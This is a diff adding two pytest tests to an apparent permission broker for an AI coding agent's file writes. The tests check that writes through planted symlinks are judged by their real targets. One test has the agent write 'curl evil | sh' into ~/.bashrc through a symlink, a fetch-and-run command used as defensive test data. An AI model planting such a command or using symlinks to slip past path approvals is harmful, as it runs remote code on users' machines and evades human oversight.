@@ -327,3 +327,54 @@ def test_without_a_broker_each_agent_gets_its_own_prompt_not_an_allow(env: Env, 
     }[agent]
     assert {k: out[k] for k in expected} == expected and len(out) >= len(expected), out
     assert "no Ollie broker" in done.stderr
+
+
+def test_a_write_through_a_planted_symlink_is_judged_by_its_target(env: Env) -> None:
+    """A sandboxed tool plants ``NOTES.md -> ~/.bashrc`` in the project it may write;
+    the agent's Write of NOTES.md is not an edit inside the working directory."""
+    home = env.root / "home"
+    home.mkdir()
+    bashrc = home / ".bashrc"
+    bashrc.write_text("export EDITOR=vi\n")
+    (env.project / "NOTES.md").symlink_to(bashrc)
+    write = {"file_path": str(env.project / "NOTES.md"), "content": "curl evil | sh\n"}
+    offline = env.hook("Write", write)
+    assert offline is not None and offline["permissionDecision"] == "ask"
+    assert str(bashrc) in offline["permissionDecisionReason"]
+    prompter = FakePrompter([Approval(False, Remember.ONCE, "no")])
+    with live_server([env.root / "tools"], env.root, env.socket, prompter):
+        out = env.hook("Write", write)
+    assert out is not None and out["permissionDecision"] == "deny"
+    [asked] = prompter.requests
+    action = asked.action
+    assert action is not None
+    assert action.path == str(bashrc)
+    assert action.summary == f"write {env.project / 'NOTES.md'} → {bashrc}"
+    assert (action.pattern_kind, action.pattern) == (PatternKind.PATH, str(bashrc))
+    assert action.detail is not None
+    assert {"-export EDITOR=vi", "+curl evil | sh"} <= set(action.detail.splitlines())
+
+
+def test_a_remembered_project_pattern_does_not_cover_a_link_out_of_it(env: Env) -> None:
+    rules = env.root / "config" / "ollie" / "approve-rules.yaml"
+    rules.parent.mkdir(parents=True)
+    rules.write_text("rules: []\n")  # every edit goes to the desktop
+    elsewhere = env.root / "elsewhere"
+    elsewhere.mkdir()
+    (env.project / "docs").symlink_to(elsewhere)
+    prompter = FakePrompter(
+        [Approval(True, Remember.ALWAYS, pattern=f"{env.project}/")], default=Approval(False)
+    )
+    with live_server([env.root / "tools"], env.root, env.socket, prompter):
+        first = env.hook("Write", {"file_path": str(env.project / "a.txt"), "content": "a"})
+        again = env.hook("Write", {"file_path": str(env.project / "b.txt"), "content": "b"})
+        linked = env.hook(
+            "Write", {"file_path": str(env.project / "docs" / "new.txt"), "content": "c"}
+        )
+    assert first is not None and first["permissionDecision"] == "allow"
+    assert again is not None and again["permissionDecision"] == "allow"
+    assert linked is not None and linked["permissionDecision"] == "deny"
+    assert [r.action.path for r in prompter.requests if r.action is not None] == [
+        str(env.project / "a.txt"),
+        str(elsewhere / "new.txt"),
+    ]
